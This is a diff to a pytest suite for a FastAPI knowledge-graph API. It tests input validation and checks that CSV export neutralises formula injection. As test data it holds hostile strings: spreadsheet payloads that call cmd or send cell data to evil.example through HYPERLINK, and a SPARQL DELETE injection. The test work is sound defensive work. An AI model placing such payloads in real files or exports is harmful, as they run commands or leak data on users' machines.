@@ -4,10 +4,17 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from collections.abc import Callable
 from typing import Any
+from urllib.parse import quote
 
 import pytest
+from api.tabular import inert
 from fastapi.testclient import TestClient
+
+from tests.conftest import FIXTURES
+from tests.fixtures.memory_store import MemoryStore
 
 BASE = "https://w3id.org/gq-kg/"
 HUISHUI = BASE + "id/division/522731"
@@ -174,6 +181,10 @@ def test_query_catalogue(api: TestClient) -> None:
         ("/api/pairings?party=学校", 422, "ambiguous"),
         ("/api/search?q=", 422, "q"),
         ("/api/search?q=x&limit=1000", 422, "limit"),
+        # A class that does not exist found nothing, silently (200, an empty list).
+        ("/api/entities?type=Countyy", 422, "'Countyy' is not a class"),
+        ("/api/search?q=huishui&type=gq:Countyy", 422, "not a class of the ontology"),
+        ("/api/entities?type=gq:divisionCode", 422, "not a class"),  # a property
         ("/api/pairings?format=xml", 422, "format"),
     ],
 )
@@ -192,21 +203,38 @@ def test_bad_input_is_a_readable_4xx(api: TestClient, url: str, status: int, nee
         "SELECT * WHERE { ?s ?p ?o }",
         "惠" * 2_000 + "x" * 8_000,  # 10 k characters
         "id:division/522731> } ; DELETE {",
+        # Characters SPARQL's IRIREF lets through but the IRI grammar does not (U+FFFD from a
+        # bad %-escape, a C1 control, private use, a noncharacter, a broken %-escape): each
+        # was pasted into the bound query and came back as 400 query_syntax from the engine.
+        "https://w3id.org/gq-kg/id/division/\ufffd",
+        "https://w3id.org/gq-kg/id/division/5227\u008531",
+        "https://w3id.org/gq-kg/id/\ue000",
+        "https://w3id.org/gq-kg/id/\uffff",
+        "https://w3id.org/gq-kg/id/%ZZ",
+        "\x00" * 200,  # a prefix of every search key in SQLite: a 500 (score over 100)
     ],
 )
 def test_hostile_strings_are_inert(api: TestClient, hostile: str) -> None:
     for url, name in (
         ("/api/pairings", "party"),
+        ("/api/pairings", "helper"),
+        ("/api/pairings", "recipient"),
         ("/api/search", "q"),
         ("/api/statistics", "subject"),
         ("/api/queries/pairings", "helper"),
         ("/api/entities", "q"),
+        ("/api/network/path", "from"),
     ):
-        response = api.get(url, params={name: hostile})
+        response = api.get(url, params={name: hostile, "to": "id:division/522731"})
         assert response.status_code in {200, 404, 422}, (url, response.text)
         if response.status_code != 200:
             assert response.json()["error"]["status"] == response.status_code
-    assert api.get(f"/api/entities/{hostile[:400]}").status_code in {404, 422}
+    paths = [f"/api/entities/{quote(hostile[:400])}"]
+    if "\x00" not in hostile:  # httpx refuses to send a raw NUL
+        paths.append(f"/api/entities/{hostile[:400]}")
+    for path in paths:
+        response = api.get(path)
+        assert response.status_code in {404, 422}, (path, response.text)
 
 
 def test_a_query_reads_its_declared_default_graph(api: TestClient) -> None:
@@ -323,3 +351,39 @@ def test_statistics_of_a_year_are_those_whose_period_covers_it(api: TestClient) 
         assert body["statistics"] == want, year
         seen += len(want)
     assert seen > 0
+
+
+def test_csv_cells_never_start_a_formula(web_app: Callable[..., TestClient]) -> None:
+    """tests/fixtures/hostile.trig holds labels and a relation text that a spreadsheet would
+    run as formulas (=HYPERLINK, @SUM…|cmd, +1+cmd): in CSV each starts with an apostrophe;
+    JSON and numbers are untouched."""
+    hostile = FIXTURES / "hostile.trig"
+    client = web_app(MemoryStore(hostile), dataset_file=hostile)
+    formulas = ("=", "+", "-", "@", "\t", "\r")
+    seen: set[str] = set()
+    for url, params in (
+        ("/api/entities", {"format": "csv", "limit": "500"}),
+        ("/api/search", {"q": "三都", "format": "csv"}),
+        ("/api/search", {"q": "SUM", "format": "csv"}),
+        ("/api/pairings", {"format": "csv"}),
+    ):
+        response = client.get(url, params=params)
+        assert response.status_code == 200, (url, response.text)
+        for row in csv.reader(io.StringIO(response.text)):
+            for cell in row:
+                assert not cell.startswith(formulas) or re.fullmatch(r"[+-]?[0-9.]+", cell), cell
+                seen.add(cell)
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"三都")' in seen
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
+    assert "'+1+cmd|' /C calc'!A0" in seen
+    # JSON is data, not a spreadsheet: the value as the source has it.
+    (pairing,) = client.get("/api/pairings").json()["pairings"]
+    assert pairing["relation_text"] == "+1+cmd|' /C calc'!A0"
+    assert [inert(v) for v in ("-3.5", "+2", "1e5", "-", "@", "=1")] == [
+        "-3.5",
+        "+2",
+        "1e5",
+        "'-",
+        "'@",
+        "'=1",
+    ]
